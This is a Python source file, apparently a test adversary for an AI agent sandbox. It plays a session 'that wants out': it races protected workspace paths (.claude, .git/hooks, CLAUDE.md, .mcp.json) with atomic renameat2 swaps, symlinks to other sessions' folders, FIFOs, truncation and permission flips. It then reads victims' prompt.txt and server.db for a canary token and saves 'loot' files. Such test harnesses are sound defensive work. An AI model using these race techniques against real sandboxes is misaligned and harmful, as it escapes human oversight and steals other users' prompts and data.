"""A program of a session that wants out: it exchanges, links, moves, truncates and re-creates what
is in its workspace, as fast as it can, and reads whatever comes of it. Standard library only.

`python3 hostile.py SEED VICTIMS SECONDS [inside | git]`, in the workspace: as a service inside of
the sandbox, or outside with the uid of the sandbox. Outside it must not do by itself what it is to
have others do: nothing is ever opened, made or removed through a link. `git`: only a repository is
turned on, and left whole, so that git finds something to work with.
"""

import ctypes
import os
import random
import select
import signal
import stat
import sys
import time
from contextlib import suppress

MARK = b"canary-" + b"token-"
LOOT = "loot-"
FOLDERS = (
    *(".claude", ".git", ".agents", ".vscode", ".husky", ".mainspring", ".claude/skills"),
    *("src", "src/deep", "data", "skills", "skills/one", ".git/hooks", ".git/info", ".git/objects"),
    *(".git/refs", ".git/refs/heads", ".git/worktrees", ".git/modules", "data/more"),
    *(".git/logs", ".git/objects/info"),
)
FILES = (
    *(".envrc", ".gitmodules", "notes.txt", ".git/config", ".git/HEAD", ".git/index"),
    *("src/main.py", "src/deep/deep.txt", "data/plan.txt", ".git/commondir"),
    *("skills/one/SKILL.md", ".claude/skills/SKILL.md"),
)
PROTECTED = (*FOLDERS[:7], ".git/hooks", ".git/info", ".envrc", ".gitmodules", ".git/config")
OF_GIT = (".git", ".git", ".git/worktrees", ".git/refs", ".git/refs/heads", ".git/objects")
READ_AT_START = ("agent.yaml", ".mcp.json", "CLAUDE.md", ".claude/settings.json")
"""A session that finds anything odd in the place of these does not begin, and nothing is won."""
_EXCHANGE = 2
_HERE = os.O_RDONLY | os.O_DIRECTORY | os.O_NOFOLLOW
_MOST_BYTES = 65536
_LOOK_EVERY = 64

_libc = ctypes.CDLL(None, use_errno=True)


def exchange(folder: int, one: str, other: str) -> None:
    _libc.renameat2(folder, one.encode(), folder, other.encode(), _EXCHANGE)


class Hostile:
    def __init__(self, seed: int, victims: str) -> None:
        self._random = random.Random(seed)
        self._victims = [entry for entry in victims.split(":") if entry]
        self._root = os.open(".", _HERE)
        self._is_for_git = "git" in sys.argv[4:]
        self.swaps = 0
        self.actions = 0
        self._is_over = False

    def stop(self, *_: object) -> None:
        self._is_over = True

    def run(self, seconds: float) -> None:
        end = time.monotonic() + seconds
        acts = (self._swap,) * 12 + (
            *(self._move_away, self._make_anew, self._truncate, self._link, self._close_off),
            *(self._leave_link, self._make_pipe, self._nest),
        )
        while not self._is_over and time.monotonic() < end:
            path = self._random.choice((*PROTECTED, *PROTECTED, *FOLDERS, *FILES))
            if self._random.random() < 0.02:
                path = self._random.choice(READ_AT_START)
            if self._is_for_git:
                path = self._random.choice(OF_GIT)
            folder, _, name = path.rpartition("/")
            with suppress(OSError):
                opened = self._entered(folder)
                try:
                    act = self._swap if path in READ_AT_START else self._random.choice(acts)
                    if self._is_for_git:
                        self._swap_repository(opened, name, path)
                    else:
                        act(opened, name, path in FOLDERS)
                finally:
                    os.close(opened)
            self.actions += 1
            if self.actions % _LOOK_EVERY == 0:
                self._look()
                os.write(1, b"%d\n" % self.swaps)

    def _entered(self, path: str) -> int:
        opened = os.dup(self._root)
        for part in path.split("/") if path else ():
            try:
                inner = os.open(part, _HERE, dir_fd=opened)
            finally:
                os.close(opened)
            opened = inner
        return opened

    def _swap(self, folder: int, name: str, is_folder: bool) -> None:
        """With a link that leads out, again and again: whoever looks twice sees two things."""
        twin = f"twin-of-{name}"
        self._put_link(folder, twin, is_folder)
        if not _is_there(folder, name):
            self._make(folder, name, is_folder)
        for _ in range(self._random.choice((1, 3, 10, 50, 400, 4000))):
            exchange(folder, name, twin)
            self.swaps += 1
            if self._random.random() < 0.02:
                self._pause(0.0005)
        is_restored = name.endswith((".json", ".yaml", "CLAUDE.md")) or self._random.random() < 0.5
        if is_restored and _is_link(folder, name):
            exchange(folder, name, twin)

    def _swap_repository(self, folder: int, name: str, path: str) -> None:
        """With the same part of another one, for as long as some step of git's may take."""
        twin = f"twin-of-{name}"
        victim = next(item for item in self._victims if item.endswith("/.git"))
        with suppress(FileExistsError):
            os.symlink(victim + path.removeprefix(".git"), twin, dir_fd=folder)
        if not _is_there(folder, name):
            os.mkdir(name, dir_fd=folder)
        for _ in range(self._random.choice((1, 5, 20))):
            self._pause(0.02)
            exchange(folder, name, twin)
            self._pause(0.02)
            exchange(folder, name, twin)
            self.swaps += 2

    def _pause(self, seconds: float) -> None:
        select.select([], [], [], self._random.random() * seconds)

    def _move_away(self, folder: int, name: str, is_folder: bool) -> None:
        aside = f"aside-of-{name}"
        os.rename(name, aside, src_dir_fd=folder, dst_dir_fd=folder)
        self._pause(0.002)
        os.rename(aside, name, src_dir_fd=folder, dst_dir_fd=folder)

    def _make_anew(self, folder: int, name: str, is_folder: bool) -> None:
        _remove(folder, name)
        self._make(folder, name, is_folder)

    def _leave_link(self, folder: int, name: str, is_folder: bool) -> None:
        _remove(folder, name)
        self._put_link(folder, name, is_folder)

    def _make(self, folder: int, name: str, is_folder: bool) -> None:
        if not is_folder:
            _write(folder, name, b"{}\n")
            return
        os.mkdir(name, 0o755, dir_fd=folder)
        inner = os.open(name, _HERE, dir_fd=folder)
        try:
            for entry in ("settings.json", "config", "prompt.txt", "SKILL.md", "notes.txt"):
                _write(inner, entry, b"{}\n")
            for item in ("hooks", "info", "more"):
                os.mkdir(item, 0o755, dir_fd=inner)
        finally:
            os.close(inner)

    def _put_link(self, folder: int, name: str, is_folder: bool) -> None:
        victim = self._random.choice(self._victims)
        inside = ("", "", "", "/hooks") if is_folder else ("/prompt.txt", "/server.db", "/config")
        targets = [victim + self._random.choice(inside)] * 6
        targets += ["src", "../..", "no-such-thing", name, "notes.txt", os.getcwd()]
        fresh = f".fresh-{name}"
        with suppress(FileNotFoundError):
            os.unlink(fresh, dir_fd=folder)
        os.symlink(self._random.choice(targets), fresh, dir_fd=folder)
        try:
            os.rename(fresh, name, src_dir_fd=folder, dst_dir_fd=folder)
        except OSError:
            os.unlink(fresh, dir_fd=folder)

    def _truncate(self, folder: int, name: str, is_folder: bool) -> None:
        flags = os.O_WRONLY | os.O_NOFOLLOW | os.O_NONBLOCK
        opened = os.open(name, flags, dir_fd=folder)
        try:
            os.ftruncate(opened, self._random.randrange(9))
        finally:
            os.close(opened)

    def _link(self, folder: int, name: str, is_folder: bool) -> None:
        """A second name for a file, and away with the first."""
        other = f"second-{name}"
        with suppress(FileNotFoundError):
            os.unlink(other, dir_fd=folder)
        os.link(name, other, src_dir_fd=folder, dst_dir_fd=folder, follow_symlinks=False)
        os.unlink(name, dir_fd=folder)
        os.rename(other, name, src_dir_fd=folder, dst_dir_fd=folder)

    def _close_off(self, folder: int, name: str, is_folder: bool) -> None:
        opened = os.open(name, os.O_RDONLY | os.O_NOFOLLOW | os.O_NONBLOCK, dir_fd=folder)
        try:
            mode = stat.S_IMODE(os.fstat(opened).st_mode)
            os.fchmod(opened, 0)
            self._pause(0.002)
            os.fchmod(opened, mode | 0o600)
        finally:
            os.close(opened)

    def _make_pipe(self, folder: int, name: str, is_folder: bool) -> None:
        """Whoever opens it waits; where git would, it is only slow, and nothing is won."""
        if name in ("HEAD", "config", "index", "commondir"):
            return
        _remove(folder, name)
        os.mkfifo(name, dir_fd=folder)

    def _nest(self, folder: int, name: str, is_folder: bool) -> None:
        for _ in range(8):
            with suppress(FileExistsError):
                os.mkdir("nest", dir_fd=folder)
            folder = os.open("nest", _HERE, dir_fd=folder)
            os.close(self._held) if hasattr(self, "_held") else None
            self._held = folder

    def _look(self) -> None:
        """Inside of a sandbox a link leads out of it only if something has gone wrong."""
        for victim in self._victims if "inside" in sys.argv else ():
            self._take(victim)
        for path in FOLDERS if "inside" in sys.argv else ():
            self._take(path)

    def _take(self, folder: str) -> None:
        for name in ("prompt.txt", "server.db"):
            with suppress(OSError):
                opened = os.open(f"{folder}/{name}", os.O_RDONLY | os.O_NONBLOCK)
                try:
                    content = os.read(opened, _MOST_BYTES)
                finally:
                    os.close(opened)
                if MARK in content:
                    _write(self._root, f"{LOOT}{self.actions}", content)


def _is_there(folder: int, name: str) -> bool:
    with suppress(OSError):
        os.stat(name, dir_fd=folder, follow_symlinks=False)
        return True
    return False


def _is_link(folder: int, name: str) -> bool:
    with suppress(OSError):
        return stat.S_ISLNK(os.stat(name, dir_fd=folder, follow_symlinks=False).st_mode)
    return False


def _write(folder: int, name: str, content: bytes) -> None:
    flags = os.O_WRONLY | os.O_CREAT | os.O_EXCL | os.O_NOFOLLOW
    with suppress(FileExistsError), open(os.open(name, flags, 0o644, dir_fd=folder), "wb") as file:
        file.write(content)


def _remove(folder: int, name: str) -> None:
    with suppress(FileNotFoundError):
        if not stat.S_ISDIR(os.stat(name, dir_fd=folder, follow_symlinks=False).st_mode):
            os.unlink(name, dir_fd=folder)
            return
        inner = os.open(name, _HERE, dir_fd=folder)
        try:
            for item in os.listdir(inner):
                _remove(inner, item)
        finally:
            os.close(inner)
        os.rmdir(name, dir_fd=folder)


def main() -> None:
    seed, victims, seconds = int(sys.argv[1]), sys.argv[2], float(sys.argv[3])
    hostile = Hostile(seed, victims)
    signal.signal(signal.SIGTERM, hostile.stop)
    hostile.run(seconds)
    os.write(1, b"%d\n" % hostile.swaps)


if __name__ == "__main__":
    main()
